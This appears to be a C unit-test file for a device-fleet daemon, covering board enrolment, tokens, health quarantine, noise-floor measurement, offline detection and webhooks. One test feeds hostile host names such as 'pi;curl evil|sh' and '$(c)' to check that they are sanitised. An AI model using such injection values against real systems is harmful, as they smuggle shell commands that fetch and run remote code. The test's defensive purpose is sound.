/* Boards: enrolment, connections, profiles, health, noise, silence. */
#include "fleet_bed.h"

#include "daemon/store_webhooks.h"
#include "devices/noise.h"

static void test_enrolment_once(void **state) {
    struct fixture *f = *state;
    assert_int_equal(fleet_enrol(f, "machine-one"), ESP_ECONFLICT);
    assert_string_equal(f->err.pointer, "/machine_id");
    assert_int_equal(fleet_enrol(f, "machine-two"), 0);
    assert_int_equal(fleet_number(f, "SELECT count(*) FROM devices WHERE ?1 IS NOT NULL", ""), 2);
    /* A token that was copied to another machine. */
    assert_int_equal(fleet_connect_board(f, "machine-one", "1", "env-1"), ESP_EFORBIDDEN);
}

static void assert_enrols_as(struct fixture *f, const char *machine, const char *name,
                             const char *wanted) {
    cJSON *body = fleet_introduction(machine, "1", "e"), *device = NULL;
    struct work op = {.body = body};
    cJSON_ReplaceItemInObject(body, "name", cJSON_CreateString(name));
    assert_int_equal(fleet_run(f, &op, do_enrol), 0);
    const char *id = cJSON_GetStringValue(cJSON_GetObjectItem(op.doc, "device_id"));
    assert_int_equal(store_device_get(store_loop_sql(f->store), id, &f->err, &device), 0);
    assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItem(device, "name")), wanted);
    cJSON_Delete(device);
    cJSON_Delete(op.doc);
    cJSON_Delete(body);
}

/* A host may be called anything; what becomes of it stands in addresses and commands. */
static void test_odd_names_become_plain(void **state) {
    struct fixture *f = *state;
    assert_enrols_as(f, "machine-two", "pi;curl evil|sh", "pi-curl evil-sh");
    assert_enrols_as(f, "machine-three", " a/b\x01$(c) ", "-a-b---c--");
    assert_enrols_as(f, "machine-five", "dev_0123456789abcdefghjkmnpqrs",
                     "dev-0123456789abcdefghjkmnpqrs");
    assert_enrols_as(f, "machine-four", "küche.pi_4:+@-x", "küche.pi_4:+@-x");
}

static int do_enrol_with_token(struct store_tx *tx, struct work *op, struct err *err) {
    int r = store_token_use(tx, op->a, err);
    return r != 0 ? r : do_enrol(tx, op, err);
}

static int do_token(struct store_tx *tx, struct work *op, struct err *err) {
    struct token_request request = {
        .kind = "enrolment", .label = "", .uses = 1, .expires_in_s = 3600};
    return store_token_create(tx, &request, err, &op->doc, NULL);
}

/* A refused board does not use up the token: both are one transaction. */
static void test_token_and_board_are_one(void **state) {
    struct fixture *f = *state;
    struct work token = {.a = NULL};
    assert_int_equal(fleet_run(f, &token, do_token), 0);
    const char *secret = cJSON_GetStringValue(cJSON_GetObjectItem(token.doc, "token"));
    cJSON *known = fleet_introduction("machine-one", "1", "e"),
          *fresh = fleet_introduction("machine-3", "1", "e");
    struct work op = {.a = secret, .body = known};
    assert_int_equal(fleet_run(f, &op, do_enrol_with_token), ESP_ECONFLICT);
    op.body = fresh;
    assert_int_equal(fleet_run(f, &op, do_enrol_with_token), 0);
    cJSON_Delete(op.doc);
    assert_int_equal(fleet_run(f, &op, do_enrol_with_token), ESP_EUNAUTHORIZED);
    cJSON_Delete(known);
    cJSON_Delete(fresh);
    cJSON_Delete(token.doc);
}

static int do_touch(struct store_tx *tx, struct work *op, struct err *err) {
    return store_device_touch(tx, op->a, op->number, err);
}

static void test_older_epochs_are_refused(void **state) {
    struct fixture *f = *state;
    struct work op = {.a = f->device, .number = f->epoch};
    assert_int_equal(fleet_run(f, &op, do_touch), 0);
    op.number = f->epoch - 1;
    assert_int_equal(fleet_run(f, &op, do_touch), ESP_ECONFLICT);
}

/* A worker that now runs with other threads must not measure what was asked of the old profile. */
static void test_only_profiles_that_run_now(void **state) {
    struct fixture *f = *state;
    char id[ID_MAX], lease[ID_MAX];
    bool waits = true;
    assert_int_equal(fleet_ask(f, "g1", "brief/2", id), 0);
    assert_int_equal(fleet_connect_board(f, "machine-one", "2", "env-1"), 0);
    assert_int_equal(fleet_grant(f, 8, lease), 0);
    assert_int_equal(store_work_waits(store_loop_sql(f->store), f->device, &f->err, &waits), 0);
    assert_false(waits);
    fleet_assert_state(f, id, "queued");
    assert_int_equal(fleet_connect_board(f, "machine-one", "1", "env-1"), 0);
    assert_int_equal(store_work_waits(store_loop_sql(f->store), f->device, &f->err, &waits), 0);
    assert_true(waits);
    assert_int_equal(fleet_grant(f, 8, lease), 1);
}

static void test_a_new_environment_is_a_new_revision(void **state) {
    struct fixture *f = *state;
    char before[ID_MAX], after[ID_MAX];
    assert_int_equal(fleet_ask(f, "g1", "brief/2", before), 0);
    assert_int_equal(fleet_connect_board(f, "machine-one", "1", "env-2"), 0);
    fleet_assert_state(f, before, "failed");
    assert_int_equal(fleet_ask(f, "g1", "brief/2", after), 0);
    assert_string_not_equal(before, after);
    assert_int_equal(
        fleet_number(f, "SELECT count(*) FROM profile_revisions WHERE profile = ?1", f->profile),
        2);
}

static int do_patch(struct store_tx *tx, struct work *op, struct err *err) {
    struct device_patch patch = {.state = op->b};
    return store_device_patch(tx, op->a, &patch, err);
}

static void set_device_state(struct fixture *f, const char *text) {
    struct work op = {.a = f->device, .b = text};
    assert_int_equal(fleet_run(f, &op, do_patch), 0);
}

static void test_paused_and_sick_boards_get_nothing(void **state) {
    struct fixture *f = *state;
    char id[ID_MAX], lease[ID_MAX];
    for (int i = 0; i < HEALTH_CRASHES; i++) {
        char graph[8];
        snprintf(graph, sizeof(graph), "g%d", i);
        assert_int_equal(fleet_ask(f, graph, "brief/2", id), 0);
    }
    set_device_state(f, "paused");
    assert_int_equal(fleet_grant(f, 1, lease), 0);
    set_device_state(f, "active");
    for (int i = 0; i < HEALTH_CRASHES; i++) {
        assert_int_equal(fleet_grant(f, 1, lease), 1);
        assert_int_equal(fleet_ack(f, lease), 0);
        fleet_expire(f, lease);
    }
    assert_int_equal(fleet_grant(f, 1, lease), 0);
    assert_int_equal(
        fleet_number(f, "SELECT health = 'quarantined' FROM devices WHERE id = ?1", f->device), 1);
    set_device_state(f, "paused"); /* says nothing of its health */
    assert_int_equal(
        fleet_number(f, "SELECT health = 'quarantined' FROM devices WHERE id = ?1", f->device), 1);
    set_device_state(f, "active");
    assert_int_equal(fleet_grant(f, 1, lease), 1);
}

static int do_noise(struct store_tx *tx, struct work *op, struct err *err) {
    return store_profile_noise(tx, op->a, op->b, op->body, err);
}

static void test_noise_is_relative(void **state) {
    struct fixture *f = *state;
    cJSON *quiet = cJSON_Parse("[100,101,99,100,100,102,98,100]"), *bad = cJSON_Parse("[1,0,1]");
    struct work op = {.a = f->device, .b = f->profile, .body = quiet};
    assert_int_equal(fleet_run(f, &op, do_noise), 0);
    assert_int_equal(
        fleet_number(f, "SELECT noise > 0.001 AND noise < 0.05 FROM devices WHERE id = ?1",
                     f->device),
        1);
    op.body = bad;
    assert_int_equal(fleet_run(f, &op, do_noise), ESP_EINVAL);
    op = (struct work){.a = f->device, .b = "pf_other", .body = quiet};
    assert_int_equal(fleet_run(f, &op, do_noise), ESP_ENOTFOUND);
    cJSON_Delete(quiet);
    cJSON_Delete(bad);
}

/* A worker that leaves its noise floor to the daemon. */
static int connect_for_noise(struct fixture *f, const char *environment) {
    cJSON *body = fleet_introduction("machine-one", "1", environment);
    cJSON_AddBoolToObject(body, "noise_by_lease", true);
    struct work op = {.a = f->device, .body = body};
    int r = fleet_run(f, &op, do_connect);
    cJSON_Delete(body);
    if (r == 0) {
        assert_true(cJSON_IsTrue(cJSON_GetObjectItem(op.doc, "noise_by_lease")));
        fleet_note_welcome(f, op.doc);
    }
    return r;
}

#define REFERENCES "SELECT count(*) FROM measurements WHERE kind = 'reference' AND profile = ?1"
#define NOISE "SELECT round(1e6 * noise) FROM profiles WHERE id = ?1"

/* Takes the one measurement that is leased; ret_id: which. */
static void measure_next(struct fixture *f, char ret_id[ID_MAX]) {
    char lease[ID_MAX];
    assert_int_equal(fleet_grant(f, 8, lease), 1);
    struct sql_rows rows;
    sql_query(store_loop_sql(f->store), &rows,
              "SELECT measurement FROM lease_items WHERE lease = ?1", "t", lease);
    assert_true(sql_next(&rows));
    snprintf(ret_id, ID_MAX, "%s", sql_text(&rows, 0));
    assert_int_equal(sql_end(&rows, &f->err), 0);
    assert_int_equal(fleet_ack(f, lease), 0);
    assert_int_equal(fleet_send_new(f, lease, ret_id, 1, "ok"), 201);
}

static void test_the_noise_floor_is_leased(void **state) {
    struct fixture *f = *state;
    char asked[ID_MAX], id[ID_MAX];
    assert_int_equal(fleet_number(f, REFERENCES, f->profile),
                     0); /* of one that takes it on its own */
    assert_int_equal(fleet_ask(f, "g1", "brief/2", asked), 0);
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 1);
    measure_next(f, id); /* before what was asked for earlier */
    assert_string_not_equal(id, asked);
    int64_t floor = fleet_number(f, NOISE, f->profile);
    assert_true(floor > 0);
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 1);
    /* Another environment has a floor of its own; the first one's is known when it comes back. */
    assert_int_equal(connect_for_noise(f, "env-2"), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 2);
    fleet_change(f, "UPDATE profiles SET noise = 7 WHERE id = ?1", f->profile);
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    assert_int_equal(fleet_number(f, NOISE, f->profile), floor);
}

#define FLOOR(what)                                                                                \
    "SELECT " what " FROM profile_revisions r JOIN profiles p ON p.revision = r.id WHERE p.id = "  \
    "?1"

static int do_review(struct store_tx *tx, struct work *op, struct err *err) {
    return store_noise_review(tx, err);
}

static int do_again(struct store_tx *tx, struct work *op, struct err *err) {
    return store_noise_again(tx, op->a, op->number != 0, err, op->id);
}

static bool is_due(struct fixture *f) {
    bool due = false;
    assert_int_equal(store_noise_due(store_loop_sql(f->store), clock_wall_us(), &f->err, &due), 0);
    return due;
}

/* As if it had been measured at a bad moment. */
static void spoil(struct fixture *f) {
    fleet_change(f,
                 "UPDATE profile_revisions SET noise = 9.99, noise_doubt = 'implausible', "
                 "noise_next_us = 1 WHERE profile = ?1",
                 f->profile);
    fleet_change(f, "UPDATE profiles SET noise = 9.99 WHERE id = ?1", f->profile);
    fleet_change(f, "UPDATE devices SET noise = 9.99, health = 'good' WHERE id = ?1", f->device);
}

static void test_a_floor_in_doubt_is_asked_for_again(void **state) {
    struct fixture *f = *state;
    struct work op = {.a = f->profile};
    char id[ID_MAX];
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    measure_next(f, id);
    int64_t floor = fleet_number(f, NOISE, f->profile);
    assert_int_equal(fleet_run(f, &op, do_review), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 1); /* there is no doubt */
    spoil(f);
    assert_true(is_due(f));
    assert_int_equal(fleet_run(f, &op, do_review), 0);
    assert_int_equal(fleet_run(f, &op, do_review), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 2);
    assert_false(is_due(f));
    assert_int_equal(fleet_number(f, FLOOR("noise_tries"), f->profile), 1);
    measure_next(f, id);
    assert_int_equal(fleet_number(f, NOISE, f->profile), floor);
    assert_int_equal(fleet_number(f, FLOOR("noise_doubt IS NULL AND noise_tries = 0"), f->profile),
                     1);
    /* Health that was judged by the old floor counts no more. */
    assert_int_equal(
        fleet_number(f, "SELECT health = 'probation' AND noise < 1 FROM devices WHERE id = ?1",
                     f->device),
        1);
    spoil(f); /* what failed is not asked for again before its time */
    assert_int_equal(fleet_run(f, &op, do_review), 0);
    fleet_change(f,
                 "UPDATE measurements SET state = 'failed' WHERE profile = ?1 AND state = 'queued'",
                 f->profile);
    assert_false(is_due(f));
    fleet_change(f, "UPDATE devices SET away_us = 1 WHERE id = ?1", f->device);
    fleet_change(f, "UPDATE profile_revisions SET noise_next_us = 1 WHERE profile = ?1",
                 f->profile);
    assert_false(is_due(f)); /* nobody is there to measure it */
}

/* Results whose reference network drifts by 1 % each. */
static void test_later_references_put_a_floor_in_doubt(void **state) {
    struct fixture *f = *state;
    struct work op = {.a = NULL};
    char id[ID_MAX];
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    measure_next(f, id);
    fleet_change(f, "UPDATE profile_revisions SET noise = 0.3 WHERE profile = ?1", f->profile);
    for (int i = 0; i < NOISE_DRIFTS_MIN; i++) {
        char graph[8];
        snprintf(graph, sizeof(graph), "g%d", i);
        assert_false(is_due(f));
        assert_int_equal(fleet_ask(f, graph, i == 3 ? "brief/2" : "full/2", id), 0);
        assert_int_equal(fleet_measure_all(f, "ok"), 1);
    }
    assert_false(is_due(f)); /* a brief one tells nothing */
    assert_int_equal(fleet_ask(f, "last", "full/2", id), 0);
    assert_int_equal(fleet_measure_all(f, "ok"), 1);
    assert_int_equal(fleet_number(f, FLOOR("noise_doubt = 'above_references'"), f->profile), 1);
    assert_true(is_due(f));
    assert_int_equal(fleet_run(f, &op, do_review), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 2);
}

static void test_a_person_has_the_floor_measured_again(void **state) {
    struct fixture *f = *state;
    struct work op = {.a = f->profile, .number = 1}, twice = {.a = f->profile, .number = 1};
    char id[ID_MAX];
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    measure_next(f, id);
    fleet_change(f, "UPDATE profile_revisions SET noise = 1e-6 WHERE profile = ?1", f->profile);
    assert_int_equal(fleet_run(f, &op, do_again), 0);
    assert_int_equal(fleet_run(f, &twice, do_again), 0);
    assert_string_equal(op.id, twice.id);
    assert_string_not_equal(op.id, id);
    measure_next(f, id);
    assert_string_equal(op.id, id);
    assert_true(fleet_number(f, NOISE, f->profile) > 1); /* it may rise */
    assert_int_equal(connect_for_noise(f, "env-1"), 0);
    assert_int_equal(fleet_number(f, REFERENCES, f->profile), 2);
}

static int do_gone(struct store_tx *tx, struct work *op, struct err *err) {
    return store_device_gone(tx, op->a, op->number, INT64_C(1000), err);
}

/* A connection that broke is noticed late: what was heard on another one since stands above it. */
static void test_an_old_connection_says_nothing(void **state) {
    struct fixture *f = *state;
    struct work op = {.a = f->device, .number = f->epoch};
    fleet_change(f, "UPDATE devices SET last_seen_us = 1001 WHERE id = ?1", f->device);
    assert_int_equal(fleet_run(f, &op, do_gone), 0);
    assert_int_equal(
        fleet_number(f, "SELECT away_us IS NULL FROM devices WHERE id = ?1", f->device), 1);
    fleet_change(f, "UPDATE devices SET last_seen_us = 1000 WHERE id = ?1", f->device);
    op = (struct work){.a = f->device, .number = f->epoch - 1};
    assert_int_equal(fleet_run(f, &op, do_gone), 0);
    assert_int_equal(
        fleet_number(f, "SELECT away_us IS NULL FROM devices WHERE id = ?1", f->device), 1);
    op = (struct work){.a = f->device, .number = f->epoch};
    assert_int_equal(fleet_run(f, &op, do_gone), 0);
    assert_int_equal(
        fleet_number(f, "SELECT away_us IS NULL FROM devices WHERE id = ?1", f->device), 0);
}

static int do_devices_expire(struct store_tx *tx, struct work *op, struct err *err) {
    return store_devices_expire(tx, store_tx_now_us(tx) - 45000000, err);
}

#define ONLINE "SELECT away_us IS NULL FROM devices WHERE id = ?1"

static void test_silence_is_away_unless_it_measures(void **state) {
    struct fixture *f = *state;
    char id[ID_MAX], lease[ID_MAX];
    struct work op = {.a = NULL}, touch = {.a = f->device, .number = f->epoch};
    assert_int_equal(fleet_ask(f, "g1", "brief/2", id), 0);
    assert_int_equal(fleet_grant(f, 8, lease), 1);
    fleet_change(f, "UPDATE devices SET last_seen_us = 1 WHERE id = ?1", f->device);
    assert_int_equal(fleet_run(f, &op, do_devices_expire), 0);
    assert_int_equal(fleet_number(f, ONLINE, f->device), 1);
    fleet_expire(f, lease);
    assert_int_equal(fleet_run(f, &op, do_devices_expire), 0);
    assert_int_equal(fleet_number(f, ONLINE, f->device), 0);
    assert_int_equal(fleet_run(f, &touch, do_touch), 0);
    assert_int_equal(fleet_number(f, ONLINE, f->device), 1);
}

static int do_hook(struct store_tx *tx, struct work *op, struct err *err) {
    struct webhook_request request = {.url = "https://example.org/hook", .label = ""};
    cJSON *kinds = cJSON_Parse("[\"search\"]");
    request.kinds = op->number != 0 ? kinds : NULL;
    int r = store_webhook_create(tx, &request, err, &op->doc);
    if (r == 0)
        strcpy(op->id, cJSON_GetStringValue(cJSON_GetObjectItem(op->doc, "id")));
    cJSON_Delete(op->doc);
    cJSON_Delete(kinds);
    return r;
}

#define TOLD(type)                                                                                 \
    "SELECT count(*) FROM webhook_deliveries WHERE webhook = ?1 AND type = '" type                 \
    "' AND json_extract(body, '$.data.device.name') IS NOT NULL"

static void go_away(struct fixture *f) {
    struct work op = {.a = NULL};
    fleet_change(f, "UPDATE devices SET last_seen_us = 1 WHERE id = ?1", f->device);
    assert_int_equal(fleet_run(f, &op, do_devices_expire), 0);
}

/* Each time once, whatever a board does meanwhile; who named kinds of jobs hears nothing of it. */
static void test_webhooks_hear_of_boards_that_go_and_come(void **state) {
    struct fixture *f = *state;
    struct work all = {.number = 0}, jobs = {.number = 1};
    assert_int_equal(fleet_run(f, &all, do_hook), 0);
    assert_int_equal(fleet_run(f, &jobs, do_hook), 0);
    go_away(f);
    go_away(f);
    assert_int_equal(fleet_number(f, TOLD("device.offline"), all.id), 1);
    assert_int_equal(fleet_number(f, TOLD("device.online"), all.id), 0);
    for (int i = 0; i < 2; i++) { /* the worker was started anew */
        assert_int_equal(fleet_connect_board(f, "machine-one", "1", "env-1"), 0);
        assert_int_equal(fleet_number(f, TOLD("device.online"), all.id), 1);
    }
    go_away(f);
    struct work touch = {.a = f->device, .number = f->epoch};
    for (int i = 0; i < 2; i++) { /* the same worker is heard again */
        assert_int_equal(fleet_run(f, &touch, do_touch), 0);
        assert_int_equal(fleet_number(f, TOLD("device.online"), all.id), 2);
    }
    assert_int_equal(fleet_number(f, TOLD("device.offline"), all.id), 2);
    assert_int_equal(
        fleet_number(f, "SELECT count(*) FROM webhook_deliveries WHERE webhook = ?1", jobs.id), 0);
}

int main(void) {
#define TEST(name) cmocka_unit_test_setup_teardown(name, fleet_start, fleet_stop)
    const struct CMUnitTest tests[] = {
        TEST(test_enrolment_once),
        TEST(test_odd_names_become_plain),
        TEST(test_webhooks_hear_of_boards_that_go_and_come),
        TEST(test_token_and_board_are_one),
        TEST(test_older_epochs_are_refused),
        TEST(test_only_profiles_that_run_now),
        TEST(test_a_new_environment_is_a_new_revision),
        TEST(test_paused_and_sick_boards_get_nothing),
        TEST(test_noise_is_relative),
        TEST(test_the_noise_floor_is_leased),
        TEST(test_a_floor_in_doubt_is_asked_for_again),
        TEST(test_later_references_put_a_floor_in_doubt),
        TEST(test_a_person_has_the_floor_measured_again),
        TEST(test_an_old_connection_says_nothing),
        TEST(test_silence_is_away_unless_it_measures),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
